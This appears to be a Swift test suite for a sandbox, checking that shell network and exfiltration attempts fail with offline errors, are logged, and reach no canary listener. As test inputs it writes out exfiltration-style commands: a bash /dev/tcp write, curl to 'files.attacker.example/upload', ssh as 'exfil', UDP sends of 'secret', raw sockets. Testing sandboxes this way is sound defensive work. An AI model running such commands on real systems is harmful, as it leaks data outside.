import Foundation
import Testing
import TerrariumBase
import TerrariumEpisode
import TerrariumWorld

extension ShellTests {
    /// THREATS.md, network and exfiltration: every attempt fails with the errno an offline
    /// host gives, is recorded with family, address and port, and reaches nothing outside.
    @Suite struct Network {
        @Test func tcpConnectToAHostLoopbackListener() async throws {
            let canary = try Canary()
            try await withOffice { office in
                let s = try await office.sh(probe([("connect", "socket.create_connection(('127.0.0.1', \(canary.port)), 2)")]))
                #expect(s.lines == ["connect ENETUNREACH"], "\(s.stderr)")
                let d = try #require(s.denied("connect").first, "no sandbox.denied for the connect")
                #expect(d["family"] == "AF_INET")
                #expect(d["category"] == "network")   // what trigger and grading patterns match on
                #expect(d["address"] == "127.0.0.1")
                #expect(d["port"] == JSON(canary.port))
                #expect(d["protocol"] == "tcp")
                #expect(d["errno"] == "ENETUNREACH")
                #expect(d["cause"] == JSON(s.result.calledSeq))
            }
            #expect(canary.reached() == 0)
        }

        @Test func bashDevTcpCurlWgetSshAndGitClone() async throws {
            let canary = try Canary()
            try await withOffice { office in
                let s = try await office.sh("""
                    bash -c 'echo hi > /dev/tcp/127.0.0.1/\(canary.port)' 2>/dev/null; echo devtcp=$?
                    curl -sS -m 5 http://93.184.216.34/ 2>/dev/null; echo curl=$?
                    wget -q -T 5 -t 1 http://198.51.100.7:8080/x 2>/dev/null; echo wget=$?
                    ssh -o BatchMode=yes -o ConnectTimeout=3 -p 2222 exfil@203.0.113.9 true 2>/dev/null; echo ssh=$?
                    git clone -q http://192.0.2.44/repo.git 2>/dev/null; echo git=$?
                    """)
                #expect(s.lines == ["devtcp=1", "curl=7", "wget=4", "ssh=255", "git=128"], "\(s.stderr)")
                let targets = Set(s.denied("connect").compactMap { d -> String? in
                    guard let a = d["address"]?.stringValue, let p = d["port"]?.intValue else { return nil }
                    return "\(a):\(p)"
                })
                #expect(targets == ["127.0.0.1:\(canary.port)", "93.184.216.34:80", "198.51.100.7:8080", "203.0.113.9:2222",
                                    "192.0.2.44:80"])
                #expect(s.denied("connect").allSatisfy { $0["errno"] == "ENETUNREACH" && $0["family"] == "AF_INET" })
            }
            #expect(canary.reached() == 0)
        }

        @Test func aNameIsRecordedFromTheDnsQuery() async throws {
            try await withOffice { office in
                let s = try await office.sh("curl -sS -m 5 https://files.attacker.example/upload; echo curl=$?")
                #expect(s.lines == ["curl=6"])
                #expect(s.stderr.contains("Could not resolve host"))
                let queries = s.denied.compactMap { $0["detail"]?.stringValue }
                #expect(queries.contains { $0.contains("dns_query=files.attacker.example") }, "\(s.denied)")
                // The resolver's UDP connect was answered without running, and is on record.
                let observed = s.executed?.payload["observed"]?.arrayValue ?? []
                #expect(observed.contains { $0["syscall"] == "connect" && $0["decision"] == "faked" && $0["port"] == 53 })
            }
        }

        @Test func udpSendtoAndSendmsgToAHostCanary() async throws {
            let canary = try Canary(udp: true)
            try await withOffice { office in
                let s = try await office.sh(probe([
                    ("sendto", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', \(canary.port)))"),
                    ("sendmsg", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'secret'], [], 0, ('127.0.0.1', \(canary.port)))"),
                ]))
                #expect(s.lines == ["sendto ENETUNREACH", "sendmsg ENETUNREACH"], "\(s.stderr)")
                for call in ["sendto", "sendmsg"] {
                    let d = try #require(s.denied(call).first, "no event for \(call)")
                    #expect(d["address"] == "127.0.0.1")
                    #expect(d["port"] == JSON(canary.port))
                    #expect(d["protocol"] == "udp")
                }
            }
            #expect(canary.reached() == 0)
        }

        @Test func ipv6Loopback() async throws {
            let canary = try Canary(ipv6: true)
            try await withOffice { office in
                let s = try await office.sh(probe([
                    ("connect6", "socket.socket(socket.AF_INET6).connect(('::1', \(canary.port)))"),
                ]))
                #expect(s.lines == ["connect6 ENETUNREACH"], "\(s.stderr)")
                let d = try #require(s.denied("connect").first)
                #expect(d["family"] == "AF_INET6")
                #expect(d["address"] == "::1")
                #expect(d["port"] == JSON(canary.port))
            }
            #expect(canary.reached() == 0)
        }

        @Test func rawPacketVsockAlgSocketsAndBinding() async throws {
            try await withOffice { office in
                let s = try await office.sh(probe([
                    ("packet", "socket.socket(17, socket.SOCK_RAW, 0)"),
                    ("raw", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
                    ("vsock", "socket.socket(40, socket.SOCK_STREAM, 0)"),
                    ("alg", "socket.socket(38, socket.SOCK_SEQPACKET, 0)"),
                    ("bind", "socket.socket().bind(('127.0.0.1', 8080))"),
                ]))
                #expect(s.lines == ["packet EPERM", "raw EPERM", "vsock EAFNOSUPPORT", "alg EAFNOSUPPORT", "bind EACCES"], "\(s.stderr)")
                #expect(s.denied("socket").map { $0["family"] } == ["AF_PACKET", "AF_VSOCK", "AF_ALG"])
                let bind = try #require(s.denied("bind").first)
                #expect(bind["address"] == "127.0.0.1")
                #expect(bind["port"] == 8080)
                #expect(bind["errno"] == "EACCES")
            }
        }

        @Test func onlyADownLoopbackAndNoWayToChangeIt() async throws {
            try await withOffice { office in
                let s = try await office.sh("ls /sys/class/net 2>&1 | head -1; ip -o link | awk '{print $2, $9}'; ip link set lo up; echo ip=$?")
                #expect(s.lines.contains("lo: DOWN"), "\(s.stdout) \(s.stderr)")
                #expect(s.lines.last == "ip=2")
                #expect(s.stderr.contains("Operation not permitted"))
            }
        }
    }
}
